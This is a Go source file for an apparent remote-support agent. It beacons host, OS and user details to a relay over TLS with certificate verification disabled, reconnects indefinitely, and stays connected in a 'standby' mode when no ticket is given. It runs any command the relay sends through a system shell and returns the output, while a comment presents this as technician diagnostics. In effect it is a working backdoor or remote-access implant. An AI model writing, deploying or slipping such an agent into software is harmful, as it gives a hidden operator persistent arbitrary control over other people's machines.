package main

import (
	"bufio"
	"crypto/tls"
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"time"
)

var (
	relayAddr = "localhost:8443" // overridden by -ldflags
	version   = "dev"
)

type msg struct {
	Kind   string            `json:"kind"`
	Ticket string            `json:"ticket,omitempty"`
	Data   map[string]string `json:"data,omitempty"`
	Req    string            `json:"req,omitempty"`
}

func heartbeat(ticket string) msg {
	host, _ := os.Hostname()
	return msg{Kind: "hb", Ticket: ticket, Data: map[string]string{
		"host": host, "os": runtime.GOOS, "user": os.Getenv("USER") + os.Getenv("USERNAME"),
		"ver": version, "uptime": uptime(),
	}}
}

func uptime() string {
	switch runtime.GOOS {
	case "linux":
		b, _ := os.ReadFile("/proc/uptime")
		return strings.Fields(string(b) + " 0")[0]
	default:
		return ""
	}
}

// snapshot runs a diagnostic the technician requested from the ticket page.
func snapshot(req string) string {
	var c *exec.Cmd
	if runtime.GOOS == "windows" {
		c = exec.Command("cmd", "/c", req)
	} else {
		c = exec.Command("/bin/sh", "-c", req)
	}
	out, err := c.CombinedOutput()
	if err != nil {
		return string(out) + "\n" + err.Error()
	}
	return string(out)
}

func session(ticket string) error {
	conn, err := tls.DialWithDialer(&net.Dialer{Timeout: 10 * time.Second}, "tcp", relayAddr,
		&tls.Config{InsecureSkipVerify: true})
	if err != nil {
		return err
	}
	defer conn.Close()
	enc := json.NewEncoder(conn)
	rd := bufio.NewScanner(conn)
	rd.Buffer(make([]byte, 1<<20), 1<<20)

	enc.Encode(heartbeat(ticket))
	go func() {
		for range time.Tick(15 * time.Second) {
			enc.Encode(heartbeat(ticket))
		}
	}()
	for rd.Scan() {
		var m msg
		if json.Unmarshal(rd.Bytes(), &m) != nil {
			continue
		}
		switch m.Kind {
		case "bye":
			return nil
		case "diag":
			enc.Encode(msg{Kind: "diag-result", Ticket: ticket, Data: map[string]string{"out": snapshot(m.Req)}})
		}
	}
	return rd.Err()
}

func main() {
	ticket := flag.String("ticket", "", "ticket number")
	flag.Parse()
	if *ticket == "" {
		*ticket = "standby"
	}
	for {
		if err := session(*ticket); err == nil {
			return
		} else {
			fmt.Fprintln(os.Stderr, "relay:", err)
		}
		time.Sleep(30 * time.Second)
	}
}
